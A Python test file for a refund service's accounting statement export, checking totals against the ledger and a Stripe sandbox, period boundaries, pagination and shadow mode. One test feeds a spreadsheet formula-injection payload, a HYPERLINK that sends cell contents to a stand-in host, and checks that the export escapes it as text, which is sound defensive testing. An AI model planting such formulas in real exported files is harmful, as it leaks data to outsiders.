"""A month as a bookkeeper gets it: every fact once, its totals those of ledger and sandbox."""

from collections import Counter
from dataclasses import replace
from datetime import UTC, date, datetime, time, timedelta

import pytest
import stripe
from sqlmodel import select

from handlers.operate import Action, act
from handlers.reconcile import reconcile
from handlers.recovery import collect
from handlers.statement import open_statement
from refunds.ids import RequestId
from refunds.lifecycle import Bucket
from refunds.policy import PolicyBook
from refunds.statement import Period
from store.statement import facts_of as facts_in
from store.tables.ledger import ExposureEntry, LedgerEntry
from store.tables.requests import Mode
from tests.support.split_play import named
from tests.support.stage import KEY, Stage
from tests.support.statement import Rows, added_up, facts_of, read_statement, totals_of


def exported(stage: Stage, first: date | None = None, last: date | None = None) -> Rows:
    """The statement of these days; of all that can have happened unless they are given."""
    today = stage.now().date()
    period = Period(
        first=first or today - timedelta(days=400), last=last or today + timedelta(days=2)
    )
    with open_statement(stage.services.database, period, now=stage.now()) as file:
        return read_statement(file.read().decode())


def by_the_books(stage: Stage) -> dict[tuple[str, str], int]:
    """What the ledger says by itself: the same sums, counted entry by entry."""
    sums: Counter[tuple[str, str]] = Counter()
    kinds = {
        Bucket.CANCELED: "request_ended",
        Bucket.CLOSED: "request_ended",
        Bucket.REJECTED: "request_ended",
        Bucket.FAILED: "refund_failed",
        Bucket.STRIPE_CANCELED: "refund_failed",
        Bucket.SUCCEEDED: "refund_succeeded",
    }
    exposures = {
        ("platform", "exposed"): "exposed",
        ("exposed", "recovered"): "exposure_recovered",
        ("exposed", "platform"): "exposure_ended",
    }
    with stage.services.database.reading() as unit:
        for entry in unit.exec(select(LedgerEntry)):
            if entry.from_bucket is Bucket.OPENED:
                sums["request", entry.currency] += entry.amount_minor
            if entry.to_bucket in kinds:
                sums[kinds[entry.to_bucket], entry.currency] += entry.amount_minor
        for row in unit.exec(select(ExposureEntry)):
            kind = exposures[row.from_bucket.value, row.to_bucket.value]
            sums[kind, row.currency] += row.amount_minor
            moved = (row.to_bucket.value == "exposed") - (row.from_bucket.value == "exposed")
            sums["exposure_closing", row.currency] += moved * row.amount_minor
    return dict(sums)


def at_stripe(stage: Stage, kind: str) -> dict[str, dict[str, object]]:
    """The sandbox's objects of a kind, by id."""
    objects = stage.sandbox.control("GET", "state")["objects"].get(kind, [])
    return {str(each["id"]): each for each in objects}


def a_month(stage: Stage) -> None:
    """Covered, held, canceled, failed, uncovered and taken back, in two currencies."""
    account = stage.account()
    covered, waits = stage.paid(account, 5000), stage.paid(account, 700)
    stage.has(account, 5000)
    stage.wish(covered)
    stage.work()
    stage.wish(waits, reason="duplicate")
    stage.wish(stage.paid(None, 1200, currency="eur"))
    gone = stage.wish(stage.paid(account, 900))
    act(stage.services, Action.CANCEL, gone, note="the buyer keeps it", actor="ada")
    owes = stage.account()
    payment = stage.paid(owes, 4000)
    stage.has(owes, 1000)
    released = stage.wish(payment)
    stage.work()
    act(stage.services, Action.RELEASE, released, note="we stand in", actor="ada")
    stage.work()
    stage.has(owes, 600)
    assert collect(stage.services, lambda: None) == "1 reversal"


def test_the_totals_are_those_of_the_ledger(stage: Stage) -> None:
    a_month(stage)
    rows = exported(stage)
    totals = totals_of(rows)
    books = by_the_books(stage)
    assert books
    assert {key: totals.get(key) for key in books} == books
    standing = {"exposure_opening", "exposure_closing"}
    assert added_up(rows) == {k: v for k, v in totals.items() if k[0] not in standing}
    # Asked 50 + 7 + 9 + 40, of which 9 were withdrawn, 50 + 40 refunded, and 7 wait.
    assert totals["request", "usd"] == 10_600
    assert totals["request_ended", "usd"] == 900
    assert totals["refund", "usd"] == 9000
    assert totals["request", "eur"] == 1200
    # 40 were needed, 10 taken at once and 6 later.
    assert totals["exposed", "usd"] == 3000
    assert totals["exposure_recovered", "usd"] == totals["recovery", "usd"] == 600
    assert totals["exposure_opening", "usd"] == 0
    assert totals["exposure_closing", "usd"] == 2400


def test_what_stripe_made_is_named_as_stripe_names_it(stage: Stage) -> None:
    a_month(stage)
    rows = exported(stage)
    refunds, reversals = at_stripe(stage, "refund"), at_stripe(stage, "transfer_reversal")
    told = facts_of(rows, "refund")
    assert len(told) == 2
    for row in told:
        made = refunds[row["stripe_object"]]
        assert row["balance_transaction"] == made["balance_transaction"] != ""
        assert row["reversal"] == (made["transfer_reversal"] or "")
        assert (int(row["amount_minor"]), row["currency"]) == (made["amount"], made["currency"])
        assert row["charge"] == made["charge"]
    own = facts_of(rows, "reversal") + facts_of(rows, "recovery")
    assert len(own) == 2
    for row in own:
        made = reversals[row["stripe_object"]]
        assert row["balance_transaction"] == made["balance_transaction"] != ""
        assert (int(row["amount_minor"]), row["currency"]) == (made["amount"], made["currency"])
    # Each reversal at Stripe is in the statement: by its refund, or by a line of its own.
    assert {row["reversal"] for row in told + own} - {""} == set(reversals)


def test_a_refund_that_fails_late_is_two_facts(stage: Stage) -> None:
    request = stage.wish(stage.paid(None, 5000))
    stage.work()
    [refund] = stage.refunds()
    stage.sandbox.control("POST", f"refunds/{refund['id']}/fail", {})
    reconcile(stage.services)
    rows = exported(stage)
    [made], [lost] = facts_of(rows, "refund"), facts_of(rows, "refund_failed")
    assert made["request"] == lost["request"] == request
    assert made["stripe_object"] == lost["stripe_object"] == refund["id"]
    body = at_stripe(stage, "refund")[str(refund["id"])]
    assert made["balance_transaction"] == body["balance_transaction"] != ""
    assert lost["balance_transaction"] == body["failure_balance_transaction"] != ""


def test_another_hands_refund_is_a_fact_of_its_own(stage: Stage) -> None:
    account = stage.account()
    charge = stage.paid(account, 5000)
    stage.wish(charge, 1000)
    client = stripe.StripeClient(KEY, base_addresses={"api": stage.sandbox.base_url})
    foreign = client.v1.refunds.create({"charge": charge, "amount": 300})
    reconcile(stage.services)
    [row] = facts_of(exported(stage), "observed_refund")
    assert (row["stripe_object"], row["amount_minor"], row["request"]) == (foreign.id, "300", "")
    assert row["balance_transaction"] == foreign.balance_transaction
    assert not facts_of(exported(stage), "refund")


def test_split_payments_name_the_account_of_each_reversal(stage: Stage) -> None:
    first, second = stage.account(), stage.account()
    charge, (one, two) = stage.paid_split(10_000, [(first, 6000), (second, 3000)])
    stage.has(first, 6000)
    stage.has(second, 3000)
    stage.wish(charge, transfers=named((one, None), (two, None)))
    stage.work()
    rows = exported(stage)
    taken = {row["account"]: int(row["amount_minor"]) for row in facts_of(rows, "reversal")}
    assert taken == {first: 6000, second: 3000}
    assert all(row["balance_transaction"] for row in facts_of(rows, "reversal"))


def test_each_fact_is_in_the_month_in_which_it_happened_and_in_no_other(stage: Stage) -> None:
    a_month(stage)
    whole = [row for row in exported(stage) if row["record"] == "fact"]
    stage.later(days=40)
    stage.wish(stage.paid(None, 300))
    stage.work()
    day = stage.now().date()
    before = exported(stage, last=day - timedelta(days=1))
    after = exported(stage, first=day)
    assert [row for row in before if row["record"] == "fact"] == whole
    assert totals_of(after)["request", "usd"] == 300
    # What is owed is carried over, and none of it moved.
    assert totals_of(after)["exposure_opening", "usd"] == 2400
    assert totals_of(after)["exposure_closing", "usd"] == 2400
    assert totals_of(before)["exposure_closing", "usd"] == 2400
    assert not facts_of(after, "exposed")
    assert "not over yet" in after[0]["why"]
    assert "not over yet" not in before[0]["why"]


@pytest.mark.parametrize("microseconds, belongs", [(-1, False), (0, True), (1, True)])
def test_midnight_belongs_to_the_day_it_begins(
    stage: Stage, microseconds: int, *, belongs: bool
) -> None:
    day = date(2026, 12, 1)
    moment = datetime.combine(day, time(), UTC) + timedelta(microseconds=microseconds)
    charge = stage.paid(None, 300)
    stage.services = replace(stage.services, clock=lambda: moment)
    stage.wish(charge)
    rows = exported(stage, first=day, last=day)
    assert len(facts_of(rows, "request")) == belongs
    rows = exported(stage, first=day - timedelta(days=1), last=day - timedelta(days=1))
    assert len(facts_of(rows, "request")) == (not belongs)


@pytest.mark.parametrize("batch", [1, 2, 3])
def test_pages_lose_nothing_and_repeat_nothing(stage: Stage, batch: int) -> None:
    a_month(stage)
    # Many entries of one moment: the time alone does not say where a page ends.
    moment = stage.now()
    stage.services = replace(stage.services, clock=lambda: moment)
    for _ in range(4):
        stage.wish(stage.paid(None, 300))
    day = stage.now().date()
    period = Period(first=day, last=day)
    with stage.services.database.reading() as unit:
        whole = list(facts_in(unit, period))
        assert list(facts_in(unit, period, batch=batch)) == whole
    assert len(whole) == 5 + 1 + 2 + 2 + 1 + 1 + 2 + 4


def test_what_shadow_mode_pretended_is_no_fact(stage: Stage) -> None:
    stage.services = replace(stage.services, mode=Mode.SHADOW, policies=PolicyBook())
    stage.wish(stage.paid(None, 300))
    stage.work()
    assert [row["record"] for row in exported(stage)] == ["period"]


def test_a_key_that_is_a_formula_comes_out_as_text(stage: Stage) -> None:
    formula = '=HYPERLINK("https://example.test/?"&A1,"why")'
    request = stage.taken(stage.paid(None, 300), None, key=formula).request
    [row] = facts_of(exported(stage), "request")
    assert (row["request"], row["idempotency_key"]) == (RequestId(request), f"'{formula}")


def test_a_large_statement_is_not_held_in_memory(
    stage: Stage, monkeypatch: pytest.MonkeyPatch
) -> None:
    a_month(stage)
    monkeypatch.setattr("handlers.statement.IN_MEMORY_BYTES", 200)
    day = stage.now().date()
    with open_statement(
        stage.services.database, Period(first=day, last=day), now=stage.now()
    ) as file:
        assert file._rolled  # type: ignore[attr-defined] # tempfile's only word for it
        rows = read_statement(file.read().decode())
    assert totals_of(rows)["refund", "usd"] == 9000
